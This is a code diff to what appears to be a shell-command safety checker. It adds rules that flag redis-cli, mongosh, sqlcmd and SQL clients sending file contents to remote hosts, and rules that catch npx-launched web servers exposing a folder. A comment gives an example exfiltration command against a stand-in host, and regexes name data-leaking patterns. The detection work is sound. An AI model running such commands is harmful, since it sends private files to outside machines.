@@ -120,9 +120,17 @@ export function client(invocation: Invocation, reading: Reading): readonly Findi
       return args[0] === 'gist' && args[1] === 'create'
         ? seen('upload.shared', 'hub puts a file on a public site')
         : []
+    case 'redis-cli':
+    case 'mongosh':
+    case 'sqlcmd':
+      return tellsFar(args, reading)
+        ? seen('upload.raw', `${name} hands what a file holds to another machine`)
+        : []
     case 'psql':
     case 'mysql':
     case 'mariadb': {
+      if (tellsFar(args, reading))
+        return seen('upload.raw', `${name} hands what a file holds to another machine`)
       const isProgram = [...args, invocation.input ?? ''].some((arg) => /\bTO\s+PROGRAM\s+'/i.test(arg))
       if (isProgram) return seen('upload.program', `${name} hands a table to a program`)
       const isAway = args.some((arg) => publicNumber.test(arg.replace(/^(-h|--host=)/, '')))
@@ -148,15 +156,33 @@ const shows = /^(cat|base64|base32|xxd|od|hexdump|head|tail|gzip|strings|tar|ope
 
 const publicNumber = /^(?!127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|0\.|255\.)\d{1,3}(\.\d{1,3}){3}$/
 
+/** `redis-cli -h far.example set k "$(cat file)"`. */
+function tellsFar(args: readonly string[], reading: Reading): boolean {
+  const at = args.findIndex((arg) => /^(-h|--host|-S)$/.test(arg))
+  const host = at < 0 ? (args.find((arg) => /^(-h|--host=)[\w.-]/.test(arg)) ?? '') : (args[at + 1] ?? '')
+  return (
+    /\w\.[a-z]{2,}$|\d(\.\d+){3}$/i.test(host) &&
+    !/\.(internal|local|lan|corp|svc|test)$|(^|[h=])(127|10|192\.168)\./.test(host) &&
+    args.some((arg) => sourcesOf(arg, reading).some(({ name: source }) => shows.test(source)))
+  )
+}
+
 const everyAddress = /^(--(address|bind|host)=)?(0\.0\.0\.0|\[?::\]?)(:\d+)?$/
 
 const servers = nameIs(
-  /^(python[\d.]*|php|ruby|kubectl|httpd|http-server|webfsd|darkhttpd|serve|miniserve|updog|thttpd|pyftpdlib|droopy)$/,
+  /^(npx|python[\d.]*|php|ruby|kubectl|httpd|http-server|webfsd|darkhttpd|serve|miniserve|updog|thttpd|pyftpdlib|droopy)$/,
 )
 
 /** A folder handed out to whoever asks. A server for the own browser, and one for the work at hand, are everyday work. */
-function served({ name, args, cwd }: Invocation): readonly Finding[] {
-  if (!servers(name)) return none
+function served(invocation: Invocation): readonly Finding[] {
+  if (!servers(invocation.name)) return none
+  const isFetched = invocation.name === 'npx'
+  const words = isFetched ? invocation.args.filter((arg) => !/^(-y|--yes|--)$/.test(arg)) : invocation.args
+  const name = isFetched ? (words[0] ?? '').replace(/@[^@/]*$/, '') : invocation.name
+  if (isFetched && !/^(http-server|serve|live-server|local-web-server|ws|static-server)$/.test(name))
+    return none
+  const args = isFetched ? words.slice(1) : words
+  const { cwd } = invocation
   const all = args.join(' ')
   const isServer =
     (/^python[\d.]*$/.test(name) &&
